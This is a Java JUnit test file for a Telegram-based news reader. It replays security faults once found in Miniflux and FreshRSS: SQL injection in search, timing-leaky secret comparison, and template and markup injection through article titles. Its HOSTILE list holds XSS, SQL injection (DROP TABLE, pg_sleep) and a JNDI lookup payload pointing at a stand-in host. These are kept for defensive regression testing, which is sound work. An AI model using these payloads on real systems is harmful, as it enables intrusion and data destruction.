package news.parallax;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.tngtech.archunit.core.domain.JavaClass;
import com.tngtech.archunit.core.importer.ClassFileImporter;
import java.security.MessageDigest;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Optional;
import java.util.stream.Stream;
import news.parallax.chat.DeepLink;
import news.parallax.chat.Language;
import news.parallax.chat.Text;
import news.parallax.chat.Voice;
import news.parallax.store.Store;
import news.parallax.store.Stores;
import news.parallax.telegram.Webhook;
import org.junit.jupiter.api.Test;

/** Faults that other feed readers had with words from outside, played again; the others stand beside what they concern. */
class PastFaultsOfWordsTest {
    private static final List<String> HOSTILE = List.of(
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "it's {0} of {1, plural, other {#}} '{'}",
            "%s %n ${jndi:ldap://x.example/a} \\u0041",
            "&lt;b&gt; & <b>",
            "'); DROP TABLE article; --",
            "') ) ORDER BY 1; SELECT pg_sleep(9) --",
            "100%_\\");

    /** Miniflux, 7628a214: the words of a search came into its SQL, by the order of what is found. */
    @Test
    void theWordsOfASearchAreNeverPartOfItsStatement() {
        try (Store store = Stores.temporary()) {
            for (String words : HOSTILE) {
                List<String> each = Stream.of(words.split(" ")).toList();
                assertEquals(List.of(), store.search().matching(each, Optional.of(Instant.EPOCH), 5), words);
                assertEquals(List.of(), store.search().matching(List.of(words), Optional.empty(), 5), words);
            }
            assertEquals(0, store.census().count().articles());
        }
    }

    /**
     * Miniflux, 83ea3d19: how long a refusal took told whether a user's name was right. Nobody logs in here; what is
     * compared with a secret is the webhook's header and a button's seal, both in a time that does not depend on the words.
     */
    @Test
    void secretsAreComparedInATimeThatTellsNothing() {
        for (String name : List.of("Webhook", "Seals")) {
            JavaClass type = new ClassFileImporter()
                    .importPackagesOf(Webhook.class)
                    .get(Webhook.class.getPackageName() + "." + name);
            assertTrue(
                    type.getMethodCallsFromSelf().stream()
                            .anyMatch(call -> call.getTargetOwner().isEquivalentTo(MessageDigest.class)
                                    && call.getName().equals("isEqual")),
                    name);
            assertFalse(
                    type.getMethodCallsFromSelf().stream()
                            .anyMatch(call -> call.getTargetOwner().isEquivalentTo(java.util.Arrays.class)
                                    && call.getName().equals("equals")),
                    name);
        }
    }

    /** FreshRSS, #9146: a title with signs of a template broke the text that was shared. */
    @Test
    void aTitleIsNoTemplate() {
        for (Language language : Language.values()) {
            Voice voice = new Voice(language, ZoneOffset.UTC, false);
            for (String title : HOSTILE) {
                String told = voice.tell("why.member.chain", title).plain();
                assertTrue(told.replace("\u2060", "").contains(title), told);
                DeepLink.of("/search " + title).ifPresent(start -> {
                    assertTrue(start.matches("[A-Za-z0-9_-]{1,64}"), start);
                    assertEquals(Optional.of("/search " + title), DeepLink.line(start));
                });
            }
        }
    }

    /** FreshRSS, #2121: titles and names brought markup of their own into the page. */
    @Test
    void aTitleBringsNoMarkup() {
        for (String title : HOSTILE) {
            Text text = Text.builder().bold("Now").words(" ").foreign(title).build();
            String html = text.html();
            assertEquals(html.indexOf('<', 1), html.indexOf("</b>"), html);
            assertEquals(-1, html.indexOf('<', html.indexOf("</b>") + 1), html);
            assertTrue(text.plain().replace("\u2060", "").endsWith(title.strip()), html);
        }
    }
}
